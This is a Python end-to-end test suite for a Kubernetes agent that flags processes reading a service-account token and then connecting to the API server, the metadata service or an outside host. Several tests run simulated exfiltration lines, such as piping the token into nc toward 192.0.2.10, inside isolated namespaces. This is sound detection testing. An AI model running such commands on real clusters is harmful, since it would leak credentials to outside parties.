#!/usr/bin/python3
"""End-to-end tests for read -> use (issue #4): TW010, TW011, TW012, TW021.

The victim container runs in a network namespace of the test's own, wired
by a veth pair to a second namespace of the test's own that holds the
addresses 10.96.0.1 (an API-server stand-in, :443), 169.254.169.254 (:80,
the metadata service) and 192.0.2.10 (:80, a documentation-range address
standing for the internet). Nothing in the root namespace routes to them.

An io_uring connect (tests/e2e/uring_connect.c, Debian's liburing) by a
tainted process is reported like any other.

Later connections for a read fold into its finding, which is sent again
(same id, final count) once, when the correlation window closes, and at
agent shutdown if still open. The agent runs with a short
correlation_window so the window-end re-send arrives within the test.

Usage (root): python3 tests/e2e/test_token_use.py
Exit status 77 means skipped (ctest SKIP_RETURN_CODE).
"""

import os
import subprocess
import sys
import time
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import test_token_reads as base  # noqa: E402

simnode = base.simnode
SA = simnode.SA_MOUNT
TOKEN = SA + "/token"
APISERVER = simnode.ServiceNetwork.APISERVER
METADATA = simnode.ServiceNetwork.METADATA
PUBLIC = simnode.ServiceNetwork.PUBLIC
# The agent's correlation_window: how long a read taints, and how long its
# connection findings fold. Each scenario connects within a second or two of
# its read; the window-end re-send must come within the test.
WINDOW_S = 20

def setUpModule():
    base.setUpModule()
    if subprocess.run(["ip", "-V"], capture_output=True).returncode != 0:
        raise unittest.SkipTest("iproute2 missing")


def argv0(p):
    argv = p.get("argv") or []
    return argv[0] if argv else ""


class TokenUseScenarios(base.AgentScenario):

    @classmethod
    def setUpClass(cls):
        simnode.install_signal_handlers()
        cls.node = node = simnode.SimNode(prefix="tokenwatch-use-")
        cls.addClassCleanup(node.close)
        cls.net = node.add_service_network()
        cls.ctr_ns = cls.net.client
        cls.pod = node.add_pod("shop", "checkout-5d8f7b9c4-q2w3e", "checkout")
        cls.app = node.add_container(cls.pod, "app", netns=cls.ctr_ns)
        cls.helper = node.compile_static(os.path.join(base.E2E_DIR, "use_helper.c"), "use_helper")
        cls.app.install(cls.helper, "/opt/tw/use_helper")
        cls.uring = os.path.join(node.tools_dir, "uring_connect")
        simnode.host_run(["gcc", "-static", "-O2", "-Wall", "-Wextra", "-o", cls.uring,
                          os.path.join(base.E2E_DIR, "uring_connect.c"), "-luring"], timeout=120)
        cls.app.install(cls.uring, "/opt/tw/uring_connect")
        cls.app.wait_entrypoint_reading()
        cls.tw = simnode.Tokenwatch(node, base.BIN_DIR)
        cls.tw.start_collector()
        cls.tw.start_agent(extra_args=["--apiserver", "%s:%d" % APISERVER],
                           config_text="correlation_window: %ds\n" % WINDOW_S)
        # The listeners must answer before the scenarios start.
        cls.net.wait_ready(cls.app)

    def applet(self, name):
        """A private busybox copy: its own exe, so its findings are its own."""
        self.assertLessEqual(len(name), 15)
        return self.app.install_applet("/opt/tw/" + name)



    def assert_names_token_of_pod(self, f):
        token = f.get("token") or {}
        self.assertEqual((token.get("owner") or {}).get("uid"), self.pod.uid, base.describe(f))
        self.assertEqual(token.get("serviceAccount"), self.pod.service_account)

    def assert_connection_to(self, f, addr, port, target):
        conns = f.get("connections") or []
        self.assertTrue(any(c.get("address") == addr and c.get("port") == port
                            and c.get("target") == target for c in conns),
                        "no connection to %s:%d (%s) in %s" % (addr, port, target, conns))

    def test_10_read_then_connect_to_apiserver_is_tw010(self):
        self.app.exec(["/opt/tw/use_helper", "read-then-connect", TOKEN] +
                      [APISERVER[0], str(APISERVER[1])])
        f = self.wait(lambda f: f.get("ruleId") == "TW010"
                      and argv0(f.get("process") or {}) == "/opt/tw/use_helper",
                      "use_helper read-then-connect to the API server")
        self.assertEqual(f.get("severity"), "SEVERITY_CRITICAL")
        self.assert_names_token_of_pod(f)
        self.assertEqual(argv0(f.get("reader") or {}), "/opt/tw/use_helper")
        self.assert_connection_to(f, APISERVER[0], APISERVER[1], "TARGET_KIND_APISERVER")

    def test_11_taint_through_the_shell_is_tw010(self):
        nc = self.applet("busybox.t11")
        self.app.exec(["sh", "-c", "T=$(cat %s); %s nc -w 1 %s %d </dev/null; true" % (
            TOKEN, nc, APISERVER[0], APISERVER[1])])
        f = self.wait(lambda f: f.get("ruleId") == "TW010"
                      and argv0(f.get("process") or {}).endswith("busybox.t11"),
                      "sh -c 'T=$(cat token); nc apiserver'")
        self.assert_names_token_of_pod(f)
        # The reader was cat, not the connector.
        self.assertIn("cat", " ".join((f.get("reader") or {}).get("argv", [])))

    def test_12_apiserver_contact_without_a_read_is_not_tw010(self):
        nc = self.applet("busybox.t12")
        seen_before = self.connect_records()
        self.app.exec(["sh", "-c", "%s nc -w 1 %s %d </dev/null; true" % (nc, *APISERVER)])
        # The agent did see the connection (a watched destination is always
        # reported); it just must not call it TW010.
        deadline = time.monotonic() + base.FINDING_TIMEOUT
        while self.connect_records() <= seen_before and time.monotonic() < deadline:
            time.sleep(0.2)
        self.assertGreater(self.connect_records(), seen_before,
                           "the agent never received the connection record")
        time.sleep(2)
        bad = [f for f in self.tw.findings() if f.get("ruleId") == "TW010"
               and argv0(f.get("process") or {}).endswith("busybox.t12")]
        self.assertEqual(bad, [], "TW010 for a process that read no token")

    def test_21_metadata_service_contact_is_tw021(self):
        nc = self.applet("busybox.t21")
        self.app.exec(["sh", "-c", "%s nc -w 1 %s %d </dev/null; true" % (nc, *METADATA)])
        f = self.wait(lambda f: f.get("ruleId") == "TW021"
                      and argv0(f.get("process") or {}).endswith("busybox.t21"),
                      "nc 169.254.169.254 80")
        self.assertEqual(f.get("severity"), "SEVERITY_MEDIUM")
        self.assertIn("T1552.005", f.get("mitre", []))
        self.assert_connection_to(f, METADATA[0], METADATA[1], "TARGET_KIND_METADATA")

    def test_30_read_then_connect_out_is_tw011(self):
        nc = self.applet("busybox.t30")
        self.app.exec(["sh", "-c", "%s cat %s >/dev/null; %s nc -w 1 %s %d </dev/null; true" % (
            nc, TOKEN, nc, *PUBLIC)])
        f = self.wait(lambda f: f.get("ruleId") == "TW011"
                      and argv0(f.get("process") or {}).endswith("busybox.t30"),
                      "read, then nc 192.0.2.10 80")
        self.assertEqual(f.get("severity"), "SEVERITY_HIGH")
        self.assert_names_token_of_pod(f)
        self.assert_connection_to(f, PUBLIC[0], PUBLIC[1], "TARGET_KIND_OTHER")

    def test_31_pipe_to_a_sibling_connector_is_tw011(self):
        nc = self.applet("busybox.t31")
        self.app.exec(["sh", "-c", "cat %s | %s nc -w 1 %s %d; true" % (TOKEN, nc, *PUBLIC)])
        self.wait(lambda f: f.get("ruleId") == "TW011"
                  and argv0(f.get("process") or {}).endswith("busybox.t31"),
                  "cat token | nc 192.0.2.10 80")

    def test_32_connect_first_then_read_is_tw011(self):
        self.app.exec(["/opt/tw/use_helper", "connect-then-read", TOKEN] +
                      [PUBLIC[0], str(PUBLIC[1])])
        f = self.wait(lambda f: f.get("ruleId") == "TW011"
                      and argv0(f.get("process") or {}) == "/opt/tw/use_helper",
                      "use_helper connect-then-read")
        self.assert_connection_to(f, PUBLIC[0], PUBLIC[1], "TARGET_KIND_OTHER")

    def test_33_io_uring_connect_by_a_tainted_process_is_reported(self):
        # No connect(2): the connect is an IORING_OP_CONNECT request.
        self.app.exec(["sh", "-c", "T=$(cat %s); /opt/tw/uring_connect %s %d; true" % (
            TOKEN, *PUBLIC)])
        f = self.wait(lambda f: f.get("ruleId") == "TW011"
                      and argv0(f.get("process") or {}) == "/opt/tw/uring_connect",
                      "uring_connect 192.0.2.10 80 after T=$(cat token)")
        self.assert_connection_to(f, PUBLIC[0], PUBLIC[1], "TARGET_KIND_OTHER")

    def test_40_token_in_argv_is_tw012_and_never_shown(self):
        echo = self.applet("busybox.t40")
        self.app.exec(["sh", "-c", 'T=$(cat %s); %s echo "Authorization: Bearer $T" >/dev/null'
                       % (TOKEN, echo)])
        f = self.wait(lambda f: f.get("ruleId") == "TW012"
                      and argv0(f.get("process") or {}).endswith("busybox.t40"),
                      "echo \"Authorization: Bearer $T\"")
        self.assertEqual(f.get("severity"), "SEVERITY_HIGH")
        self.assert_names_token_of_pod(f)
        self.assertIn("Authorization: Bearer <redacted-jwt>", f["process"]["argv"])

    def sent(self, finding_id):
        """Every export of the finding, in order, from the agent's JSON lines."""
        return [f for f in self.tw.local_findings() if f.get("id") == finding_id]

    def test_50_reconnects_fold_and_are_sent_again_once_when_the_window_closes(self):
        nc = self.applet("busybox.t50")
        started = time.monotonic()
        self.app.exec(["sh", "-c", "T=$(cat %s); for i in 1 2 3 4 5; do "
                       "%s nc -w 1 %s %d </dev/null; done; true" % (TOKEN, nc, *APISERVER)])
        f = self.wait(lambda f: f.get("ruleId") == "TW010"
                      and argv0(f.get("process") or {}).endswith("busybox.t50"),
                      "T=$(cat token); five nc to the API server")
        # Well inside the window: the grown fold waits (the agent's
        # housekeeping runs every second; it used to re-send each time).
        time.sleep(3)
        if time.monotonic() - started < WINDOW_S - 2:
            self.assertEqual(len(self.sent(f["id"])), 1,
                             "re-sent while its window was open:\n  " +
                             "\n  ".join(base.describe(x) for x in self.sent(f["id"])))
        final = self.wait(lambda x: x.get("id") == f["id"] and base.count_of(x) == 5,
                          "the fold's final count of 5 connections",
                          timeout=WINDOW_S + base.FINDING_TIMEOUT)
        self.assertEqual(len(final.get("connections") or []), 5, base.describe(final))
        time.sleep(2)  # anything extra would be out by now
        sent = self.sent(f["id"])
        self.assertEqual([base.count_of(x) for x in sent], [1, 5],
                         "\n  ".join(base.describe(x) for x in sent))

    def test_90_no_output_holds_the_token(self):
        time.sleep(2)
        outputs = {
            "findings file": simnode.read_text(self.tw.findings_path),
            "agent stderr": self.tw.agent_stderr(),
            "tokenwatchctl": "\n".join(self.tw.ctl_outputs + [self.tw.ctl("findings", "--json")]),
        }
        with open(self.tw.db_path, "rb") as db:
            outputs["collector db"] = db.read().decode("latin-1")
        for secret in self.node.secrets_to_scan():
            for what, text in outputs.items():
                self.assertNotIn(secret, text, "a token leaked into the " + what)

    def test_99_a_grown_fold_is_sent_at_shutdown(self):
        # Last: it stops the agent. The window is still open when it stops.
        nc = self.applet("busybox.t99")
        self.app.exec(["sh", "-c", "T=$(cat %s); for i in 1 2 3; do "
                       "%s nc -w 1 %s %d </dev/null; done; true" % (TOKEN, nc, *PUBLIC)])
        f = self.wait(lambda f: f.get("ruleId") == "TW011"
                      and argv0(f.get("process") or {}).endswith("busybox.t99"),
                      "T=$(cat token); three nc out of the cluster")
        # The kernel has reported all three once the connect records stop
        # growing (each nc is reported: it is tainted).
        deadline = time.monotonic() + base.FINDING_TIMEOUT
        last = -1.0
        while time.monotonic() < deadline and self.connect_records() != last:
            last = self.connect_records()
            time.sleep(1.5)
        simnode.stop_process(self.tw.agent)
        self.assertEqual(self.tw.agent.returncode, 0, self.tw.agent_stderr()[-3000:])
        sent = self.sent(f["id"])
        self.assertEqual([base.count_of(x) for x in sent], [1, 3],
                         "\n  ".join(base.describe(x) for x in sent))


if __name__ == "__main__":
    base.main()
